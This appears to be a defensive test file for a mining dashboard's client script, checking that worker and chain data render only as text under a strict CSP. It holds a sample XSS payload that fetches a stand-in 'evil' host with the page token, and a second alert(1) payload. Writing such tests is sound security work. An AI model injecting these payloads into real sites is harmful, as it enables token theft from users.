// The dashboard page's script, run in a vm against a small stand-in DOM: every value from a worker or the chain
// must end up as text (no element made from data, no `on*` attribute), and malformed state must not stop drawing.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import vm from 'node:vm';
import { DASHBOARD_JS } from './client.js';
import { DASHBOARD_CSP, DASHBOARD_CSS, DASHBOARD_HTML } from './page.js';

class FakeText {
  constructor(readonly data: string) {}
  get textContent(): string {
    return this.data;
  }
}

class FakeElement {
  readonly attrs = new Map<string, string>();
  children: (FakeElement | FakeText)[] = [];
  disabled = false;
  constructor(readonly tagName: string) {}
  setAttribute(k: string, v: string): void {
    this.attrs.set(k, String(v));
  }
  getAttribute(k: string): string | null {
    return this.attrs.get(k) ?? null;
  }
  set className(v: string) {
    this.attrs.set('class', v);
  }
  get className(): string {
    return this.attrs.get('class') ?? '';
  }
  appendChild(c: unknown): unknown {
    if (!(c instanceof FakeElement || c instanceof FakeText)) throw new TypeError('appendChild: not a node');
    this.children.push(c);
    return c;
  }
  replaceChildren(...cs: unknown[]): void {
    this.children = [];
    for (const c of cs) this.appendChild(c);
  }
  set textContent(v: string) {
    this.children = [new FakeText(String(v))];
  }
  get textContent(): string {
    return this.children.map((c) => c.textContent).join('');
  }
  set innerHTML(_v: string) {
    throw new Error('innerHTML used');
  }
  set outerHTML(_v: string) {
    throw new Error('outerHTML used');
  }
  insertAdjacentHTML(): void {
    throw new Error('insertAdjacentHTML used');
  }
  *walk(): Generator<FakeElement> {
    yield this;
    for (const c of this.children) if (c instanceof FakeElement) yield* c.walk();
  }
}

/** Runs the page's script with `?token=<token>`; returns the elements by id and a function that delivers a state. */
function runPage(token: string) {
  const ids = [...DASHBOARD_HTML.matchAll(/ id="([^"]+)"/g)].map((m) => m[1]!);
  const byId = new Map(ids.map((id) => [id, new FakeElement('div')]));
  const warnings: string[] = [];
  let source: { onmessage?: (e: { data: string }) => void; onopen?: () => void } | undefined;
  const ctx: Record<string, unknown> = {
    location: { search: `?token=${encodeURIComponent(token)}` },
    URLSearchParams,
    atob,
    console: { warn: (m: string) => warnings.push(m), log() {}, error() {} },
    document: {
      createElement: (t: string) => new FakeElement(t),
      createTextNode: (s: string) => new FakeText(s),
      getElementById: (id: string) => byId.get(id) ?? null,
      addEventListener() {},
    },
    EventSource: class {
      constructor(readonly url: string) {
        source = this as never;
      }
    },
    fetch: () => Promise.reject(new Error('no fetch in this test')),
  };
  ctx.window = ctx;
  vm.runInNewContext(DASHBOARD_JS, ctx);
  assert.ok(source, 'the script opened the event stream');
  const send = (state: unknown) => source!.onmessage!({ data: JSON.stringify(state) });
  const all = () => [...byId.values()].flatMap((e) => [...e.walk()]);
  return { byId, send, all, warnings, ctx };
}

const XSS = '<img src=x onerror="fetch(\'//evil/\'+token)">';

/** A state with a payload in every field a worker or the chain can set. */
function hostileState() {
  return {
    now: Date.now(),
    head: XSS,
    miners: [{ id: XSS, power: XSS, rawPower: '4096', available: XSS, error: XSS }],
    deadlines: [
      {
        miner: 1000,
        index: XSS,
        open: XSS,
        close: 60,
        current: true,
        proven: [XSS],
        partitions: [{ index: XSS, sectors: XSS, active: 1, faulty: XSS, recovering: 0 }],
      },
    ],
    posts: [{ miner: XSS, deadline: 3, ok: false, epoch: XSS, proven: 0, faulty: 1, reason: XSS, at: Date.now() }],
    alerts: [{ miner: 1000, deadline: 3, epoch: 40, close: 60, reason: XSS }],
    counts: { [XSS]: 1, Finalized: 2 },
    sectors: [
      {
        id: XSS,
        state: XSS,
        worker: XSS,
        failure: XSS,
        abort: XSS,
        ticketEpoch: XSS,
        seedEpoch: null,
        timeline: [
          { state: XSS, event: XSS, failure: XSS, at: 1 },
          { state: 'PC1', event: null, failure: null, at: 2 },
        ],
      },
    ],
    workers: [
      {
        name: XSS,
        dest: XSS,
        lastPing: 1,
        summary: { Threads: XSS, Running: 0, Paused: 0, Errors: 0 },
        threads: null,
        error: XSS,
      },
      {
        name: `w${XSS}`,
        dest: '127.0.0.1:1',
        lastPing: 1,
        summary: null,
        threads: [
          {
            index: XSS,
            location: XSS,
            plan: XSS,
            job_id: XSS,
            job_state: XSS,
            job_stage: XSS,
            thread_state: { state: XSS, elapsed: XSS, proc: XSS },
            last_error: XSS,
          },
        ],
      },
    ],
    workersTotal: 2,
    messages: [{ id: XSS, miner: XSS, kind: XSS, sectors: [XSS], pushed: true, at: 1 }],
  };
}

const ALLOWED_TAGS = new Set(['div', 'table', 'tr', 'th', 'td', 'span', 'b', 'button']);
const ALLOWED_ATTRS = /^(class|title|colspan|role|data-[a-z]+)$/;

test('dashboard page: payloads in every worker/chain field render as text, never as elements or handlers', async () => {
  const p = runPage('');
  p.send(hostileState());
  assert.equal(p.ctx.__updates, 1);
  assert.deepEqual(p.warnings, [], 'every section drew');
  for (const e of p.all()) {
    assert.ok(ALLOWED_TAGS.has(e.tagName), `unexpected <${e.tagName}>`);
    for (const k of e.attrs.keys()) assert.match(k, ALLOWED_ATTRS, `attribute ${k} on <${e.tagName}>`);
  }
  // the payloads are there, as text
  for (const id of ['alerts', 'miners', 'deadlines', 'posts', 'counts', 'sectors', 'threads', 'messages'])
    assert.ok(p.byId.get(id)!.textContent.includes('<img') || id === 'deadlines', `${id} shows the payload as text`);
  assert.match(p.byId.get('posts')!.textContent, /failed.*<img src=x onerror=/);
  assert.match(p.byId.get('alerts')!.textContent, /Window PoSt failed for t01000 deadline 3 .*<img/);
  // titles carry text too (an attribute value, not markup)
  const titles = p.all().flatMap((e) => (e.attrs.has('title') ? [e.attrs.get('title')!] : []));
  assert.ok(titles.some((t) => t.includes(XSS)));
});

test('dashboard page: missing and odd fields spoil at most their own section', () => {
  const p = runPage('');
  p.send({
    now: 1,
    head: 5,
    miners: [{ id: 1000, power: null, rawPower: null, available: 'not-a-number' }],
    deadlines: null,
    posts: [{}],
    counts: 'x',
    sectors: [{ id: 's-t01000-1', state: 'PC1', timeline: null }, {}],
    workers: [
      { name: 'no-summary', lastPing: 1, threads: null },
      { name: 'odd', summary: 5, threads: [{ index: 0, thread_state: null }] },
      { threads: 'nope' },
    ],
    messages: [{ id: 5, sectors: 'x' }],
  });
  assert.deepEqual(p.warnings, []);
  assert.equal(p.byId.get('head')!.textContent, 'head 5');
  assert.match(p.byId.get('threads')!.textContent, /no-summary.*control API: not listed/);
  assert.match(p.byId.get('threads')!.textContent, /odd #0/);
  assert.match(p.byId.get('sectors')!.textContent, /s-t01000-1PC1/);
  assert.match(p.byId.get('miners')!.textContent, /n\/a/);
  // not JSON, or not an object: ignored
  p.send('garbage' as never);
  assert.equal(p.byId.get('head')!.textContent, 'head 5');
});

test('dashboard page: with an admin token the thread rows get buttons, with a read token none', () => {
  const payload = (perm: string) =>
    `x.${Buffer.from(JSON.stringify({ Allow: perm === 'admin' ? ['read', 'write', 'sign', 'admin'] : ['read'] })).toString('base64url')}.y`;
  const state = {
    workers: [
      {
        name: 'w1',
        lastPing: 1,
        threads: [{ index: 0, job_id: null, job_state: 'Empty', thread_state: { state: 'Paused', elapsed: 3 } }],
      },
    ],
  };
  const admin = runPage(payload('admin'));
  admin.send(state);
  const buttons = admin.all().filter((e) => e.tagName === 'button');
  assert.equal(buttons.length, 1);
  assert.deepEqual(Object.fromEntries(buttons[0]!.attrs), { 'data-w': 'w1', 'data-i': '0', 'data-a': 'resume' });
  const read = runPage(payload('read'));
  read.send(state);
  assert.equal(read.all().filter((e) => e.tagName === 'button').length, 0);
  assert.equal(read.byId.get('admin')!.textContent, 'Pause/resume needs an admin token.');
});

test('dashboard page: no HTML parsing of anything, inline script and style allowed by hash only', () => {
  for (const [name, src] of [
    ['script', DASHBOARD_JS],
    ['page', DASHBOARD_HTML],
  ] as const)
    assert.doesNotMatch(
      src,
      /innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|DOMParser|createContextualFragment|srcdoc/,
      `${name} parses no data as HTML`,
    );
  const inline = [...DASHBOARD_HTML.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => m[1]!);
  assert.deepEqual(inline, [DASHBOARD_JS], 'one inline script: the dashboard script');
  assert.equal(/ on[a-z]+=/i.test(DASHBOARD_HTML.replace(DASHBOARD_JS, '')), false, 'no inline handlers');
  const hash = (s: string) => `'sha256-${createHash('sha256').update(s).digest('base64')}'`;
  assert.ok(DASHBOARD_CSP.includes(`script-src ${hash(DASHBOARD_JS)}`));
  assert.ok(DASHBOARD_CSP.includes(`style-src ${hash(DASHBOARD_CSS)}`));
  assert.match(DASHBOARD_CSP, /default-src 'none'/);
  assert.match(DASHBOARD_CSP, /frame-ancestors 'none'/);
  assert.doesNotMatch(DASHBOARD_CSP, /unsafe-inline|unsafe-eval|\*/);
});

test('dashboard page: a line per duty with its holder, since when, and mine or standby', () => {
  const p = runPage('');
  const now = Date.now();
  p.send({
    duties: [
      { duty: 'post', holder: 'manager-b', token: 3, expiresAt: now + 20_000, since: now - 120_000, mine: false },
      { duty: 'commit', holder: 'manager-a', token: 1, expiresAt: now + 25_000, since: now - 5_000, mine: true },
      {
        duty: 'chain',
        holder: 'manager-c<img src=x onerror=alert(1)>',
        token: 2,
        expiresAt: now - 1,
        since: 0,
        mine: false,
      },
    ],
  });
  assert.deepEqual(p.warnings, []);
  const t = p.byId.get('duties')!.textContent;
  assert.match(t, /postmanager-b2mrenewed, 20s leftstandby/);
  assert.match(t, /commitmanager-a5srenewed, 2[45]s leftmine/);
  assert.match(
    t,
    /chainnobody-expired \(manager-c<img src=x onerror=alert\(1\)>\)standby/,
    'an expired lease: nobody acts',
  );
  p.send({ duties: 'x' });
  assert.match(p.byId.get('duties')!.textContent, /no duties/);
});
